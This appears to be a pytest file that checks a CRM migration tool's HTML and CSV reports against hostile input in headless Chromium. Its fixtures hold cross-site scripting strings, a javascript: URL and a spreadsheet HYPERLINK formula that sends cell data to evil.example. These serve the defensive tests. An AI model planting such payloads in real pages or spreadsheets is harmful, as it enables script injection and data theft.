"""Reports opened in a real browser stay harmless and readable, whatever the CRM holds."""

import csv
import re
from pathlib import Path

import pytest

from flitstack_pipeline.migration.compare import FieldDiff, Verdict
from flitstack_pipeline.migration.expected_records import Planned
from flitstack_pipeline.migration.reconcile import Reconciliation
from flitstack_pipeline.migration.rows import MappedRow
from flitstack_pipeline.reports import certificate, conflicts, reconciliation
from flitstack_pipeline.reports.sample import SampleBook, write_sample

CHROMIUM = "/usr/bin/chromium"
SCRIPT = "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'>\"'&</td></table>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
RIGHT_TO_LEFT = "\u202eمرحبا بالعالم\u202c abc"
LONG = "<b>note</b> " + "word " * 20_000
HOSTILE = (SCRIPT, FORMULA, RIGHT_TO_LEFT, LONG, "javascript:window.hacked=1", "</script><!--")


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian's Chromium is not here: apt-get install chromium")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield opened
        opened.close()


def planned(n, label):
    row = MappedRow(
        f"contact:{n}", label, "contact", "contact", {}, "", 0, [], label, "main", "clients"
    )
    return Planned(row, f'id{n}"><script>window.hacked=1</script>', "created", {})


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Every report of this room, full of hostile text."""
    root = tmp_path_factory.mktemp("hostile")
    book = SampleBook({"main": ("loc", "")})
    diffs = [
        FieldDiff(f"contact:{n}", text, text, None if n % 2 else text[::-1],
                  Verdict.MISSING if n % 2 else Verdict.DIFFERENT, text[:40])
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    for n, (diff, text) in enumerate(zip(diffs, HOSTILE, strict=True)):
        book.take(planned(n, text), diff)
        book.take(
            planned(n, text), FieldDiff(diff.record_key, "city", "Reno", "Reno", Verdict.SAME)
        )
    result = Reconciliation(
        by_object={"clients": {"planned": 6, "verified": 0, "wrong": 6}},
        verdicts={Verdict.DIFFERENT: 3, Verdict.MISSING: 3, Verdict.SAME: 6},
        rules={SCRIPT: 1}, diffs=diffs, counts={"fields": 6},
        missing=[{"object": "clients", "record": t, "label": t, "why": t} for t in HOSTILE],
        extra=[{"kind": "contact", "label": t, "hl_id": t, "made": "", "source_id": t, "why": t}
               for t in HOSTILE],
    )  # fmt: skip
    write_sample(root, book, result, {"uncovered": list(HOSTILE)}, SCRIPT)
    reconciliation.write(root, result, reconciliation.document(result, SCRIPT, "loc"))
    with reconciliation.differences_csv(root / "reconciliation.csv") as sink:
        for n, diff in enumerate(diffs):
            sink(planned(n, HOSTILE[n]), diff)
    approval = {"approved_by": SCRIPT, "at": 0.0, "note": LONG}
    certificate.write(root, certificate.content(
        result, account=SCRIPT, location=SCRIPT, approval=approval, runs=[],
        fingerprints={"map": SCRIPT}, coverage=1.0, exported={}, joined={},
        open_matters={SCRIPT: 1}))  # fmt: skip
    rows = [
        {"record_key": t, "field": t, "label": t, "reason": "edited", "last_written": t, "ours": t,
         "theirs": t, "decision": "", "value": "", "message": t}
        for t in HOSTILE
    ]  # fmt: skip
    conflicts.write_conflict_page(root, rows)
    return root


@pytest.mark.browser
@pytest.mark.parametrize("name", ["sample", "reconciliation", "certificate", "conflicts"])
def test_hostile_text_never_runs_and_nothing_is_fetched(browser, folder, name):
    page = browser.new_page()
    asked, errors = [], []
    page.on("request", lambda r: asked.append(r.url))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("dialog", lambda d: errors.append(d.message))
    page.goto((folder / f"{name}.html").as_uri())
    assert page.evaluate("window.hacked") is None
    assert [u for u in asked if not u.startswith("file:")] == []
    assert errors == []
    assert page.locator("img").count() == 0
    links = page.eval_on_selector_all("a", "all => all.map(a => a.getAttribute('href'))")
    assert all(link.startswith(("https://app.gohighlevel.com/", "#")) for link in links)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1")
    page.close()


@pytest.mark.browser
def test_a_long_note_is_cut_opens_on_a_click_and_is_not_all_on_the_page_before(browser, folder):
    page = browser.new_page()
    page.goto((folder / "reconciliation.html").as_uri())
    long = page.locator("details.long").first
    assert "characters" in long.locator("summary").inner_text()
    assert long.bounding_box()["height"] < 500
    long.locator("summary").click()
    assert len(long.inner_text()) > 50_000
    page.close()


@pytest.mark.browser
def test_the_sample_filters_by_verdict_and_by_text_without_a_server(browser, folder):
    page = browser.new_page()
    page.goto((folder / "sample.html").as_uri())
    records = page.locator("details.record:visible")
    assert records.count() == len(HOSTILE)
    page.get_by_role("button", name="Missing").click()
    assert records.count() == 3
    assert page.locator("details.record:visible tbody tr:visible").count() == 3
    page.get_by_role("button", name="Everything").click()
    page.get_by_placeholder("Find in records").fill("hyperlink")
    assert records.count() == 1
    page.close()


@pytest.mark.browser
def test_right_to_left_text_does_not_turn_the_cells_beside_it(browser, folder):
    page = browser.new_page()
    page.goto((folder / "sample.html").as_uri())
    isolated = page.eval_on_selector_all(
        "td[dir=auto]", "all => all.every(c => getComputedStyle(c).unicodeBidi.includes('isolate'))"
    )
    assert isolated
    page.close()


def pages_on_paper(page):
    return len(re.findall(rb"/Type\s*/Page\b", page.pdf(format="A4")))


@pytest.mark.browser
def test_on_paper_a_record_without_a_difference_is_a_line(browser, tmp_path):
    """120 records of 20 values: 4 to 6 pages, not the hundred and more of everything."""
    book = SampleBook({"main": ("loc", "")})
    for n in range(120):
        for field in range(20):
            same = FieldDiff(f"contact:{n}", f"field {field}", "Reno", "Reno", Verdict.SAME)
            book.take(planned(n, f"Client {n}"), same)
    result = Reconciliation(by_object={"clients": {"planned": 120, "verified": 120, "wrong": 0}})
    write_sample(tmp_path, book, result, {}, "")
    page = browser.new_page()
    page.goto((tmp_path / "sample.html").as_uri())
    assert not page.get_by_text("On paper a record is one line").is_visible()
    assert pages_on_paper(page) <= 6
    page.get_by_role("button", name="Open all").click()
    assert pages_on_paper(page) >= 30
    page.close()


@pytest.mark.parametrize("name", ["sample.csv", "reconciliation.csv"])
def test_no_cell_of_a_csv_is_a_formula(folder, name):
    with (folder / name).open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@"))]


def test_reports_are_readable_by_their_owner_only(folder):
    assert not [p.name for p in folder.iterdir() if p.stat().st_mode & 0o077]
